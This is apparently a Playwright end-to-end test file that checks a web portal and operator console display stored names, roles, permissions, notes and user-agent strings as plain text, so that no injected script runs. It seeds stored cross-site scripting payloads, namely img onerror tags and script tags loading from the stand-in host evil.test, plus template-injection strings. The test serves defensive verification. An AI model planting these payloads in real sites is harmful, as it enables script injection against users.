// Whatever is stored is shown as it is: no screen takes it for markup, and no script in it runs (ASVS 5: 3.2.2). That
// no dialog opens and nothing is asked for elsewhere, every test sees to.

import type { Page } from '@playwright/test';
import { ready } from '../support/signin.js';
import { expect, needs, test } from '../support/test.js';
import { asOwner, built, entry } from '../support/walk.js';
import type { Person, World } from '../support/world.js';
import { operator, portal } from '../words.js';

const payload = (field: string): string => `<img src=//evil.test/${field} onerror=alert(1)>`;
const agent = `Mozilla/5.0 "><script src=//evil.test/agent></script>\${alert(1)}{{alert(1)}}`;
const names = {
  device: payload('device').slice(0, 60), user: `${payload('user')} Ada`, tenant: payload('tenant'), role: payload('role'), note: payload('note'),
  permission: payload('permission'), application: payload('application'),
};

async function poisoned(world: World): Promise<{ carla: Person; ada: Person }> {
  await world.publish((d) => {
    d.pages.workspace = { users: true, security: true };
    d.roles.push({ key: 'poison', name: names.role, description: payload('role-description'), permissions: ['poison.all'] });
    d['permissions'] = [{ key: 'poison.all', name: names.permission, category: payload('category'), description: payload('description') }];
    d['branding'] = { application_name: names.application };
  }, names.note);
  const tenant = await world.tenant(names.tenant);
  const ada = await world.person(tenant, names.user, ['poison']);
  for (const name of [names.device, '']) await world.session(ada, { name, agent });
  const past = await world.session(ada, { name: names.device, agent });
  await world.api.delete(`/v1/sessions/${past.id}`);
  const carla = await world.person(tenant, `${payload('admin')} Carla`, ['admin']);
  return { carla, ada };
}

/** What a screen shows holds texts as they are, and no element that a text has made. */
async function literally(page: Page, ...texts: string[]): Promise<void> {
  for (const text of texts) await expect(page.getByText(text).filter({ visible: true }).first(), text).toBeVisible();
  const made = await page.evaluate(() => {
    const all = (root: ParentNode): Element[] => [...root.querySelectorAll('*')].flatMap((one) => [one, ...(one.shadowRoot ? all(one.shadowRoot) : [])]);
    return all(document).filter((one) => (one.localName === 'img' || one.localName === 'script') && /evil|x/.test(one.getAttribute('src') ?? '') && !one.getAttribute('src')?.startsWith('/assets/')).map((one) => one.outerHTML);
  });
  expect(made).toEqual([]);
}

test('stored: S1, with details and sign-outs', async ({ page, world }) => {
  const { ada } = await poisoned(world);
  await world.enterAs(page.context(), ada);
  await page.goto(world.portal);
  await ready(page);
  await page.getByRole('button', { name: `Details of ${names.device}` }).click();
  await page.getByRole('button', { name: portal.recent }).click();
  await literally(page, names.device, names.tenant, names.user, agent);
});

test('stored: the pages without scripts', async ({ page, world, watch }) => {
  watch.allow(/\b403\b/);
  await poisoned(world);
  await page.goto(`${world.portal}sign-in`);
  await page.getByLabel('E-mail address').fill('a@b.c"><img/src=//evil.test/mail/onerror=alert(1)>'.slice(0, 60));
  await page.locator('form').evaluate((form: HTMLFormElement) => { form.noValidate = true; });
  await page.getByLabel('Password').fill('wrong');
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(page.getByRole('alert')).toBeVisible();
  await literally(page);
});

test('stored: S2 and S3', async ({ page, world }) => {
  const { carla } = await poisoned(world);
  await world.enterAs(page.context(), carla);
  await page.goto(world.portal);
  await needs(page, portal.users, portal.security);
  await entry(page, portal.users).click();
  await literally(page, names.user, names.role, names.tenant);
  await page.getByRole('main').getByRole('link', { name: names.user }).click();
  await literally(page, names.user, names.role, names.device, names.tenant);
  await entry(page, portal.security).click();
  await expect(page.locator('[data-state=ready]').first()).toBeVisible();
  await literally(page, names.tenant);
});

for (const [name, texts] of [
  [operator.sessions, [names.user, names.tenant]], [operator.users, [names.user, names.tenant, names.role]], [operator.workspaces, [names.tenant]],
  [operator.permissions, [names.permission]], [operator.roles, [names.role]], [operator.auditLog, [names.user]], [operator.sessionManagement, []], [operator.adminPortal, []],
] as const) {
  test(`stored: the operators’ ${name}`, async ({ page, world }) => {
    await poisoned(world);
    await asOwner(page, world, name);
    await entry(page, name).click();
    await built(page);
    await expect(page.locator('main [data-state=ready], [data-state=ready]').first()).toBeAttached();
    await literally(page, ...texts);
  });
}

test('stored: one user and one workspace as operators see them', async ({ page, world }) => {
  const { ada } = await poisoned(world);
  await asOwner(page, world, operator.users, operator.workspaces);
  await page.goto(world.operator.replace('overview', `users/${ada.id}`));
  await built(page);
  await literally(page, names.user, names.tenant, names.role);
  await page.goto(world.operator.replace('overview', `workspaces/${ada.tenant.id}`));
  await built(page);
  await literally(page, names.tenant);
});

test('stored: the note of a version', async ({ page, world }) => {
  await poisoned(world);
  await asOwner(page, world, operator.environmentSettings);
  await page.goto(world.operator.replace('overview', 'environment-settings/publish-history'));
  await built(page);
  await literally(page, names.note);
});
